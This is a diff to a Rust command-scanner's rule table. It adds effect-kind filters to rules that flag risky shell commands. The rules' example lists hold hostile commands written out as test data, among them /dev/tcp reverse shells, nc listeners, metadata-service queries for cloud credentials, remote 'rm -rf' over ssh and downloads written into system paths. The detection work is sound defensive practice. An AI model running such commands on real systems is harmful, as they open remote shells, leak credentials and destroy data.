@@ -6,7 +6,7 @@ use super::{
     hosts::{self, HostKind},
 };
 use crate::{
-    effect::{Connection, Effect, EffectKind, Run},
+    effect::{Connection, Effect, EffectKind, Kinds, Run},
     finding::{Category, Confidence},
     place::{self, Place},
     risk::Severity,
@@ -98,7 +98,7 @@ static RULES: &[Rule] = &[
         id: "network.shell.stream",
         message: "a shell's output goes to another machine, and its commands come from there",
         remedy: "give access through `ssh`, with a person's consent",
-        when: When::Effect(streamed_shell),
+        when: When::Effect(Kinds::CONNECT.and(Kinds::RUN), streamed_shell),
         fires: &[
             "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
             "sh -i >& /dev/udp/203.0.113.5/4242 0>&1",
@@ -118,7 +118,7 @@ static RULES: &[Rule] = &[
         severity: Severity::Medium,
         message: "the shell's own network device is opened, which no proxy or log of programs sees",
         remedy: "use `nc -z` to see whether a port is open",
-        when: When::Effect(device),
+        when: When::Effect(Kinds::CONNECT, device),
         fires: &["echo hi > /dev/tcp/203.0.113.5/80"],
         quiet: &["echo > /dev/tcp/localhost/5432", "grep -rn /dev/tcp docs"],
         ..CONNECTS
@@ -138,7 +138,7 @@ static RULES: &[Rule] = &[
         message: "files are deleted on another machine, where nobody can see what is lost",
         remedy: "list them first, and let a person delete them",
         reversible: false,
-        when: When::Effect(remote_destruction),
+        when: When::Effect(Kinds::DELETE.and(Kinds::RUN), remote_destruction),
         fires: &[
             "ssh dev@example.com 'rm -rf /tmp/data'",
             "ssh dev@example.com sudo rm /etc/hosts",
@@ -156,7 +156,7 @@ static RULES: &[Rule] = &[
         severity: Severity::Medium,
         message: "it listens on every interface, so that other machines can connect",
         remedy: "listen on `127.0.0.1`",
-        when: When::Effect(listens_everywhere),
+        when: When::Effect(Kinds::CONNECT, listens_everywhere),
         fires: &[
             "nc -l 8080",
             "nc -lvp 4444 > out.bin",
@@ -314,7 +314,7 @@ static RULES: &[Rule] = &[
         category: Category::Credentials,
         message: "the cloud's metadata service is asked, which gives out this machine's credentials",
         remedy: "use the credentials that the tool was given",
-        when: When::Effect(metadata),
+        when: When::Effect(Kinds::CONNECT, metadata),
         fires: &[
             "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
             "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/",
@@ -329,7 +329,7 @@ static RULES: &[Rule] = &[
         id: "network.host.disguised",
         message: "an address is written so that it does not look like what it is",
         remedy: "write it as four decimal numbers",
-        when: When::Effect(disguised),
+        when: When::Effect(Kinds::CONNECT, disguised),
         fires: &[
             "curl http://0x7f000001/",
             "curl http://3405803781/x",
@@ -344,7 +344,7 @@ static RULES: &[Rule] = &[
         confidence: Confidence::Medium,
         message: "the host is a bare public address, which no certificate vouches for",
         remedy: "use a name, over `https`",
-        when: When::Effect(bare_address),
+        when: When::Effect(Kinds::CONNECT.and(Kinds::RUN), bare_address),
         fires: &["curl http://203.0.113.5/x", "nc 203.0.113.5 4444"],
         quiet: &["ping -c1 203.0.113.5", "curl http://192.168.0.1/", "dig -x 203.0.113.5"],
         ..CONNECTS
@@ -353,7 +353,7 @@ static RULES: &[Rule] = &[
         id: "network.host.hidden",
         message: "the host is only reached through an anonymising network",
         remedy: "use a service that the team knows",
-        when: When::Effect(hidden),
+        when: When::Effect(Kinds::CONNECT, hidden),
         fires: &["curl --socks5-hostname localhost:9050 http://abcdefgh.onion/"],
         quiet: &["curl https://onion.example.com/"],
         ..CONNECTS
@@ -364,7 +364,7 @@ static RULES: &[Rule] = &[
         message: "what comes over the network is written where the system or a shell will run or obey it",
         remedy: "download it into the workspace and let a person install it",
         reversible: false,
-        when: When::Effect(into_system),
+        when: When::Effect(Kinds::WRITE, into_system),
         fires: &[
             "wget -O /usr/share/x.py http://example.com/x.py",
             "curl -o /usr/local/bin/tool https://example.com/tool",
@@ -385,7 +385,7 @@ static RULES: &[Rule] = &[
         id: "network.download.hidden",
         message: "a download is hidden among temporary files",
         remedy: "download it into the workspace under its own name",
-        when: When::Effect(hidden_download),
+        when: When::Effect(Kinds::WRITE, hidden_download),
         fires: &[
             "curl -s -o /tmp/.x https://example.com/x",
             "wget -O /dev/shm/.cache https://example.com/x",
@@ -402,7 +402,7 @@ static RULES: &[Rule] = &[
         severity: Severity::Medium,
         message: "code is downloaded without encryption, so that anyone on the way can change it",
         remedy: "use `https`",
-        when: When::Effect(plain_download),
+        when: When::Effect(Kinds::WRITE, plain_download),
         fires: &["wget http://example.com/install.sh", "curl -O http://example.com/x.deb"],
         quiet: &[
             "wget https://example.com/install.sh",
@@ -437,7 +437,7 @@ static RULES: &[Rule] = &[
         severity: Severity::Medium,
         message: "the key of the other machine is not checked, so that anyone can stand in for it",
         remedy: "add its key to `known_hosts` once, and keep the check on",
-        when: When::Effect(unchecked_host),
+        when: When::Effect(Kinds::RUN, unchecked_host),
         fires: &["ssh -o StrictHostKeyChecking=no dev@example.com uptime"],
         quiet: &["ssh -o StrictHostKeyChecking=accept-new dev@example.com uptime"],
         ..CONNECTS
